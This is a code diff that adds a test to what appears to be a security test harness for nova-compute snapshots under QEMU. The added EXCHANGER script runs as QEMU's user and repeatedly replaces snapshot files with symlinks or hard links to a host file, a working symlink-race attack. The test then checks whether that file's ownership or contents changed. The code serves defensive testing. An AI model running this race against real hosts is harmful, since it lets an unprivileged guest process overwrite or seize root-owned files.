@@ -17,6 +17,7 @@ import contextlib
 import json
 import os
 import pathlib
+import pwd
 import re
 import resource
 import signal
@@ -167,6 +168,57 @@ def plant(lab: stack.Stack, target: victim.Victim,
                   'something is in it': any(theirs.iterdir())}
     return [words for words, wrong in checks.items() if wrong
             ] + target.harmed('running')
+
+
+# Another QEMU, taken over
+
+# Puts a link to a file of the host in the place of what a snapshot has, again
+# and again, as QEMU's user. Root only tells it the directory's name, which the
+# QEMU of that guest knows.
+EXCHANGER = '''
+import os, pathlib, sys, time
+uid, parent, target = int(sys.argv[1]), pathlib.Path(sys.argv[2]), sys.argv[3]
+print("ready", flush=True)
+while True:
+    for place in parent.glob("snapdriver-*"):
+        os.seteuid(uid)
+        for name in ("nbd", "overlay", "copy"):
+            path = str(place / name)
+            for link in (os.symlink, os.link):
+                try:
+                    link(target, path + ".new")
+                    os.rename(path + ".new", path)
+                    print(path, flush=True)
+                except OSError:
+                    pass
+        os.seteuid(0)
+    time.sleep(0.001)
+'''
+
+
+def exchange(target: victim.Victim, folder: pathlib.Path) -> list[str]:
+    """Take a snapshot while QEMU's user exchanges its files for links."""
+    secret = folder / 'of-the-host'
+    secret.write_text('not for nova-compute')
+    secret.chmod(0o600)
+    before = secret.stat()
+    uid = pwd.getpwnam('libvirt-qemu').pw_uid
+    with subprocess.Popen(
+            ['/usr/bin/python3', '-c', EXCHANGER, str(uid),
+             str(target.conf.snapshots), str(secret)], text=True,
+            stdout=subprocess.PIPE, env=settings.environment()) as attacker:
+        assert attacker.stdout is not None
+        attacker.stdout.readline()
+        try:
+            target.snapshot()
+        finally:
+            attacker.kill()
+    after = secret.stat()
+    if (after.st_uid, after.st_gid, after.st_mode, after.st_size) != (
+            before.st_uid, before.st_gid, before.st_mode, before.st_size):
+        return [f'{secret} belongs to {after.st_uid}:{after.st_gid} now, with '
+                f'{after.st_size} bytes']
+    return []
 
 
 # The children
